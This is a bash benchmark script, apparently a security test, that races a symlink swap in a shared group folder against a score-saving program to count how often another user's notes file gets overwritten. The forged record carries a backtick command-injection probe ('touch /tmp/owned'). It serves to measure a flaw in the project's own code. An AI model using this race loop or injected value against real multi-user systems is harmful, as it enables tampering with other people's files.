#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# Measures whether one member of a group folder can make another member's saves write
# into that member's own file: the other member swaps the table's name, as fast as it
# can, between a table of its own and a link to the saver's notes, while the saver saves
# one result per try. Prints how many tries changed the saver's notes.
#
#   sudo tests/bench/planted_link_race.sh <build folder> [tries]
#
# Runs as root, and plays the two members with user and group numbers nobody uses
# (setpriv, no accounts needed).
set -euo pipefail
build="$(realpath "$1")"
tries="${2:-2000}"
[ "$(id -u)" -eq 0 ] || { echo "run as root: it plays two users" >&2; exit 1; }
group=64990 saver=64991 other=64992
work="$(mktemp -d)"
trap 'kill "$swapper" 2>/dev/null || true; rm -rf "$work"' EXIT
chmod 755 "$work"
install -d -o 0 -g "$group" -m 2775 "$work/shared"
install -d -o "$saver" -g "$saver" -m 755 "$work/saver"
cp "$build/tests/scores/scores_child" "$work/child"
printf 'the saver'"'"'s own notes\n' > "$work/saver/notes.txt"
chown "$saver:$saver" "$work/saver/notes.txt"
cp "$work/saver/notes.txt" "$work/notes.orig"
table="$work/shared/bdd activité 2"

# The other member: its own table and its link, swapped in turn at the table's name.
setpriv --reuid=$other --regid=$group --groups=$group /usr/bin/python3 - "$work" "$table" <<'PY' &
import os, sys
work, table = sys.argv[1], sys.argv[2]
own, link = work + "/shared/.own", work + "/shared/.link"
record = b"`touch /tmp/owned`".ljust(30, b" ") + (10).to_bytes(2, "little") + bytes(96)
while True:
    with open(own + ".new", "wb") as f:
        f.write(record * 30)
    os.chmod(own + ".new", 0o664)
    os.rename(own + ".new", table)
    try:
        os.unlink(link)
    except FileNotFoundError:
        pass
    os.symlink(work + "/saver/notes.txt", link)
    os.rename(link, table)
PY
swapper=$!
sleep 0.5

wins=0 placed=0
for ((try = 1; try <= tries; try++)); do
    said="$(env -u LSAN_OPTIONS ASAN_OPTIONS=detect_leaks=0 QT_QPA_PLATFORM=offscreen \
        setpriv --reuid=$saver --regid=$group --groups=$group "$work/child" "$work/saver" "$table" 4000 | tail -n 1)"
    case "$said" in Bravo* | Félicitation*) placed=$((placed + 1)) ;; esac
    if ! cmp -s "$work/saver/notes.txt" "$work/notes.orig"; then
        wins=$((wins + 1))
        cp "$work/notes.orig" "$work/saver/notes.txt"
    fi
done
echo "the saver's notes changed in $wins of $tries tries; $placed saves were told they were placed"
